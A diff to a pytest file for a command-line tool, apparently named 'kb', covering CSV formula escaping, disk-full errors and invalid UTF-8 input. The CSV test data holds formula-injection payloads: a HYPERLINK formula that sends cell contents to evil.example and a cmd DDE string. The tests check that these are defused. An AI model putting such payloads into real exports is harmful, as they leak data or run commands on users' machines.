@@ -394,7 +394,8 @@ def test_diff_markdown_is_cleaned(repo, monkeypatch, capsys):
 # --- CSV formulas ---------------------------------------------------------------------------
 
 @pytest.mark.parametrize(("value", "written"), [
-    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
+    ('=HYPERLINK("http://evil.example/?"&A1,"click")',
+     '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
     ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
     ("-2+3", "'-2+3"),
     ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
@@ -555,3 +556,9 @@ def test_a_full_disk_is_said_plainly(records_dir):
                               stdout=full, stderr=subprocess.PIPE, text=True, timeout=60)
     assert proc.returncode == 1
     assert proc.stderr == "kb validate: no space left on device\n"
+
+
+def test_a_surrogate_given_from_python_is_a_usage_error_too(records_dir, capsys):
+    assert cli.main(["classify", "acme\ud800", "--records", str(records_dir)]) == 2
+    assert capsys.readouterr().err == ("kb classify: chip is not valid UTF-8 text "
+                                       "(read b'acme\\\\ud800'); write it in UTF-8\n")
